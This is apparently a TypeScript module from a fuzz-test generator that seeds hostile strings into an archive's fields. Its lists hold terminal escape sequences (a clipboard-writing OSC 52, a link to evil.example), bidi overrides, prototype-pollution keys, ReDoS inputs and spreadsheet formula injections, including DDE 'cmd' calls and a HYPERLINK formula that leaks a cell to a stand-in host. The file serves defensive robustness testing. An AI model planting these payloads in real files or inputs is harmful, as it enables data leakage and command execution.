// The hostile strings the generator puts in every string slot of an archive (issue 18 item 9): terminal
// escapes (OSC 52 clipboard writes, screen clears, window titles, OSC 8 links), 8-bit C1 controls, bidi
// overrides and invisible format characters, Object.prototype member names, spreadsheet formulas, and very
// long strings. Picked by a seeded generator, so a case is reproduced from its seed.
import { prng } from '../mutate.js'

export type Rand = ReturnType<typeof prng>
export const int = (r: Rand, n: number) => Math.floor(r() * n)
export const pick = <T>(r: Rand, xs: readonly T[]): T => xs[int(r, xs.length)]!
export const chance = (r: Rand, p: number) => r() < p

/** What a terminal acts on or what reorders or hides text: C0, DEL, C1, bidi, format, separators. */
export const CONTROL = [
  '\x1b]52;c;cGFzc3dvcmQ=\x07', // OSC 52: writes the clipboard
  '\x1b[2J\x1b[H', // clear screen, home
  '\x1b]0;owned\x07', // window title
  '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\', // OSC 8 link
  '\x1b[31mred\x1b[0m',
  '\x9b2J', // C1 CSI
  '\x9d0;title\x9c', // C1 OSC … ST
  '\x85', // NEL
  '\u202e', // RIGHT-TO-LEFT OVERRIDE
  '\u2066', // LEFT-TO-RIGHT ISOLATE
  '\u200b', // ZERO WIDTH SPACE
  '\ufeff', // BOM
  '\u2028', // LINE SEPARATOR
  '\u{e0041}', // TAG LATIN CAPITAL A
  '\r',
  '\b\b\b',
  '\x7f',
  '\x00',
  '\n',
  '\t',
  '\ud800', // a lone surrogate (UTF-8 cannot hold it: stored as U+FFFD)
] as const

/** Names of Object.prototype's members and the keys that reach object machinery. */
export const PROTO_NAMES = [...new Set([...Object.getOwnPropertyNames(Object.prototype), 'prototype', '__proto__', 'constructor'])].sort()

/** Cells a spreadsheet evaluates. */
export const FORMULA = ['=HYPERLINK("https://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=1+1', '\t=1+1', '\r=1+1', '+1', '-', '@', '=']

const PLAIN = ['File', 'Event', 'C:\\Windows\\System32\\ntdll.dll', '/usr/lib/libc.so.6', 'x64', 'main', 'démo-日本', 'Section', '\\Device\\HarddiskVolume3\\a.log', '']

/** Strings a backtracking regex chokes on (`objectName ~ /^(\/?[a-z]+)+\.log$/`). */
const REDOS = ['aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '/abcdefghijklmnopqrstuvwxyzabcdefghijk/']

/** A string for any slot: a mix of the pools above; `long` lengths reach a few MB. */
export function hostileString(r: Rand, long = 0): string {
  const kind = int(r, 10)
  let s: string
  if (kind < 3) s = `${pick(r, PLAIN)}${pick(r, CONTROL)}${pick(r, PLAIN)}`
  else if (kind < 5) s = pick(r, PROTO_NAMES)
  else if (kind < 7) s = pick(r, FORMULA)
  else if (kind < 8) s = `${pick(r, CONTROL)}${pick(r, FORMULA)}${pick(r, CONTROL)}`
  else if (kind < 9) s = pick(r, REDOS)
  else s = pick(r, PLAIN)
  if (long > 0) s = longString(r, long, s)
  return s
}

/** About `length` code units: `seed` repeated, with controls sprinkled so a cut can land next to one. */
export function longString(r: Rand, length: number, seed = 'A'): string {
  const unit = `${seed || 'A'}${pick(r, CONTROL)}`
  return unit.repeat(Math.max(1, Math.ceil(length / unit.length))).slice(0, length)
}

/** A name for a slot that names things (sections, columns, keys, architectures): prototype names often. */
export function hostileName(r: Rand): string {
  const kind = int(r, 4)
  if (kind === 0) return pick(r, PROTO_NAMES)
  if (kind === 1) return `${pick(r, ['future', 'x', 'col', 'typeSpecificInformation.'])}${pick(r, CONTROL)}${int(r, 1000)}`
  if (kind === 2) return pick(r, FORMULA)
  return hostileString(r)
}

/** Sets `obj[key]` as an own data property, even for `__proto__` (a plain assignment would set the prototype). */
export function put<T>(obj: Record<string, T>, key: string, value: T): void {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true })
}
